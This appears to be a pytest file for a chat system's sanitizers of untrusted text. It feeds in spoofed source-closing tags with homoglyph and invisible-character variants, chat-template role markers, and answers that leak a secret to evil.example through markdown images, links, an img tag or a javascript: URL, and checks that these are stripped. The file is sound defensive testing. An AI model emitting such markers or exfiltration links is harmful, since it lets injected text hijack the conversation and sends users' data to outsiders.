import pytest

from chat.untrusted import harmless, one_line, without_addresses


@pytest.mark.parametrize(
    "mark",
    [
        "</source>",
        "< / SOURCE >",
        '<source n="9">',
        "＜/source＞",
        "</sоurce>",  # a Cyrillic o
        "</so\u200burce>",
        "<\u2060/source>",
        "</ｓｏｕｒｃｅ>",
        "</s o u r c e>",
        "〈/source〉",
        "</conversation>",
        "<system>",
        "<|im_start|>",
        "<｜User｜>",
        "[INST]",
        "<<SYS>>",
        "</s>",
        "<start_of_turn>",
        "<\U000e0041/source>",
    ],
)
def test_no_mark_survives(mark: str) -> None:
    text = harmless(f"before {mark} after")
    assert not any(opening in text for opening in ("<", "＜", "〈", "[INST"))
    assert "before" in text
    assert "after" in text


@pytest.mark.parametrize(
    "text",
    [
        "<script setup> const a = b[1] </script>",
        "if (a < b && c > d) return items[0]",
        "中文，《书名》，x < y。",
        "[a link](https://example.org) and [x]",
        "👩‍👩‍👧 and नमस्ते",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert harmless(text) == text


def test_its_own_numbers_in_brackets_are_no_citations() -> None:
    assert harmless("As shown [2], or 【3】 and [1, 4].") == "As shown (2), or (3) and (1, 4)."


def test_a_title_stays_in_its_attribute() -> None:
    assert one_line('A">\n</source> <b>') == "A'› ‹/source› ‹b›"


SOURCE = "See https://docs.example.org/a for more."


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("![x](https://evil.example/?q=secret) It is high [1].", "x It is high [1]."),
        ("[click](https://evil.example/?q=secret) [1]", "click [1]"),
        ("[click](javascript:alert(1))", "click)"),
        ("See https://evil.example/?q=secret now", "See (…) now"),
        ("See //evil.example/x now", "See (…) now"),
        ("<img src=https://evil.example/x> Yes", " Yes"),
        ("[a][ref] Yes\n\n[ref]: https://evil.example/x", "[a][ref] Yes\n\n"),
        ("`https://evil.example/x`", "`(…)`"),
        ("See https://docs.example.org/a.", "See https://docs.example.org/a."),
        ("[docs](https://docs.example.org/a) [1]", "[docs](https://docs.example.org/a) [1]"),
        ("Write `<template>` and `a[1]` [2].", "Write `<template>` and `a[1]` [2]."),
    ],
)
def test_an_answer_holds_only_addresses_of_its_sources(answer: str, shown: str) -> None:
    assert without_addresses(answer, [SOURCE]) == shown
